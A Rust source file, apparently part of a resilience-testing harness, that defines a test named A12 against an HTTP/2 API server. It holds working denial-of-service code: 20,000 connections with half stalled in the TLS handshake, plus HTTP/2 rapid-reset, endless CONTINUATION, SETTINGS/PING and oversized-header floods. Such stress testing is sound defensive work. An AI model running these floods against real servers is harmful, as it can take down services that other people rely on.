//! Attacks by connections and by frames of HTTP/2, without credentials.

use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt;

use super::{Load, load};
use crate::client::Client;
use crate::http2_frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RawConnection, SETTINGS, field, frame,
    get, reset,
};
use crate::scene::Scene;

const N_CONNECTIONS: usize = 20_000;
/// The number of tasks that open connections.
const N_OPENERS: usize = 64;
/// The number of connections that flood, of each kind.
const N_FLOODS: usize = 4;

/// A12: 20,000 connections, half of them in the handshake, and four kinds of floods.
pub(super) fn a12() -> Load {
    Load {
        duration: Duration::from_secs(15),
        ..load(|scene, until| Box::pin(connect(scene, until)))
    }
}

/// The descriptors that the attacker leaves to the innocents, the webhooks and the floods, which are in the same process.
const RESERVED_DESCRIPTORS: usize = 500;

/// The number of connections that this process has descriptors for.
fn n_connections() -> usize {
    let limit = rustix::process::getrlimit(rustix::process::Resource::Nofile).current;
    let limit = limit.and_then(|limit| usize::try_from(limit).ok()).unwrap_or(usize::MAX);
    N_CONNECTIONS.min(limit.saturating_sub(RESERVED_DESCRIPTORS))
}

async fn connect(scene: Arc<Scene>, until: Instant) -> anyhow::Result<()> {
    let n_connections = n_connections();
    let mut tasks = tokio::task::JoinSet::new();
    for first in 0..N_OPENERS {
        let client = scene.client.clone();
        tasks.spawn(async move {
            let mut held = Vec::new();
            let mut held_tls = Vec::new();
            for number in (first..n_connections).step_by(N_OPENERS) {
                if Instant::now() >= until {
                    break;
                }
                match number % 2 {
                    0 => {
                        let opened =
                            tokio::time::timeout_at(until.into(), client.connect_tls(true));
                        held_tls.extend(opened.await.ok().and_then(Result::ok));
                    }
                    _ => {
                        let opened = tokio::time::timeout_at(until.into(), client.connect_tcp());
                        let Ok(Ok(mut stream)) = opened.await else { continue };
                        // The first bytes of a ClientHello.
                        let _ = stream.write_all(&[22, 3, 1, 2, 0, 1, 0]).await;
                        held.push(stream);
                    }
                }
            }
            tokio::time::sleep_until(until.into()).await;
        });
    }
    for _ in 0..N_FLOODS {
        for flood in [Flood::RapidReset, Flood::Continuation, Flood::Settings, Flood::LongHeaders] {
            let client = scene.client.clone();
            tasks.spawn(async move {
                while Instant::now() < until {
                    // A server that ends the connection has defended itself.
                    let sending = flood.send(&client, until);
                    let _ = tokio::time::timeout_at(until.into(), sending).await;
                    tokio::time::sleep(Duration::from_millis(20)).await;
                }
            });
        }
    }
    while tasks.join_next().await.is_some() {}
    Ok(())
}

#[derive(Debug, Clone, Copy)]
enum Flood {
    /// Streams that are opened and reset at once.
    RapidReset,
    /// A header block that does not end.
    Continuation,
    /// Settings and pings that the server must answer.
    Settings,
    /// Header lists of 1 MB.
    LongHeaders,
}

impl Flood {
    async fn send(self, client: &Client, until: Instant) -> anyhow::Result<()> {
        let mut connection = RawConnection::open(client, &[]).await?;
        let block = get("/api/v1/namespaces", None);
        let mut stream = 1;
        while Instant::now() < until && stream < 1 << 30 {
            let mut burst = Vec::new();
            match self {
                Self::RapidReset => {
                    for _ in 0..50 {
                        burst.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
                        burst.extend(reset(stream));
                        stream += 2;
                    }
                }
                Self::Continuation => {
                    if stream == 1 {
                        burst.extend(frame(HEADERS, END_STREAM, 1, &block));
                        stream = 2;
                    }
                    burst.extend(frame(CONTINUATION, 0, 1, &field("x-long", &"x".repeat(16_000))));
                }
                Self::Settings => {
                    for _ in 0..100 {
                        burst.extend(frame(SETTINGS, 0, 0, &[]));
                        burst.extend(frame(PING, 0, 0, &[0; 8]));
                    }
                }
                Self::LongHeaders => {
                    burst.extend(frame(HEADERS, END_STREAM, stream, &block));
                    for _ in 0..64 {
                        let long = field("x-long", &"x".repeat(16_000));
                        burst.extend(frame(CONTINUATION, 0, stream, &long));
                    }
                    burst.extend(frame(CONTINUATION, END_HEADERS, stream, &[]));
                    stream += 2;
                }
            }
            connection.send(&burst).await?;
        }
        Ok(())
    }
}
